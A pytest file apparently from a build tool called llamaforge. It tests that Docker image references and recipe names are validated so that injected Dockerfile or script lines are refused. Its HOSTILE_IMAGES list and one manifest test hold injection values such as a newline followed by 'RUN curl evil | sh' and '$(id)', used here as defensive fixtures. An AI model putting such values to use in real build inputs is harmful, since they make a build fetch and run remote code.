"""Values that reach a builder Dockerfile or build script are checked when they are read: an image reference
follows Docker's grammar (`--base-image`, `images.runtime --base`, a recipe's `[images]`), a recipe name is letters,
digits, `.`, `_` and `-` (also the one a `--from-manifest` file carries). A newline that would add a `RUN`
instruction or a script line is refused naming the option, with no traceback, before anything is built."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from pydantic import ValidationError

from llamaforge.build.ops import BuildParams
from llamaforge.build.recipes import BuildRecipe, ImageRef, load_recipe

pytestmark = pytest.mark.quick

REPO = Path(__file__).parents[1]
HOSTILE_IMAGES = [
    "llamaforge/debian:bookworm\nRUN curl evil | sh",
    "debian:bookworm RUN id",
    "debian:$(id)",
    "x;id",
]


def invoke(*args: str, home: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "invoke", *args],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=REPO,
        env={"PATH": "/usr/bin:/bin", "HOME": str(home), "LLAMAFORGE_HOME": str(home / "lf")},
    )


@pytest.mark.parametrize("image", HOSTILE_IMAGES)
def test_hostile_image_references_are_refused(image: str) -> None:
    with pytest.raises(ValidationError, match="is not an image reference"):
        BuildParams(base_image=image)
    with pytest.raises(ValidationError, match="is not an image reference"):
        ImageRef(tag=image)


def test_real_references_pass() -> None:
    for image in (
        "llamaforge/debian:bookworm",
        "nvidia/cuda:12.8.1-devel-ubuntu24.04",
        "localhost:5000/a/b:c",
    ):
        assert BuildParams(base_image=image).base_image == image


def test_the_cli_refuses_a_newline_in_base_image_before_building(tmp_path: Path) -> None:
    out = invoke("build", "--base-image", HOSTILE_IMAGES[0], "--dry-run", home=tmp_path)
    assert out.returncode == 2, out.stderr
    assert "--base-image" in out.stderr and "Traceback" not in out.stderr and "RUN curl" not in out.stdout


def test_the_runtime_image_base_is_checked(tmp_path: Path) -> None:
    out = invoke("images.runtime", "--build", "none", "--base", HOSTILE_IMAGES[0], home=tmp_path)
    assert out.returncode == 2, out.stderr
    assert (
        "--base" in out.stderr and "is not an image reference" in out.stderr and "Traceback" not in out.stderr
    )


def test_a_manifest_whose_recipe_name_carries_a_script_line_is_refused(tmp_path: Path) -> None:
    recipe = load_recipe("default").model_dump(mode="json")
    recipe["name"] = "default\ncurl evil | sh"
    with pytest.raises(ValidationError, match="is not a recipe name"):
        BuildRecipe.model_validate(recipe)
    path = tmp_path / "manifest.json"
    path.write_text(json.dumps({"recipe": recipe, "options": {}}), encoding="utf-8")
    out = invoke("build", "--from-manifest", str(path), "--dry-run", home=tmp_path)
    assert out.returncode != 0 and "Traceback" not in out.stderr, out.stderr
    assert "recipe name" in out.stderr and "curl evil" not in out.stdout
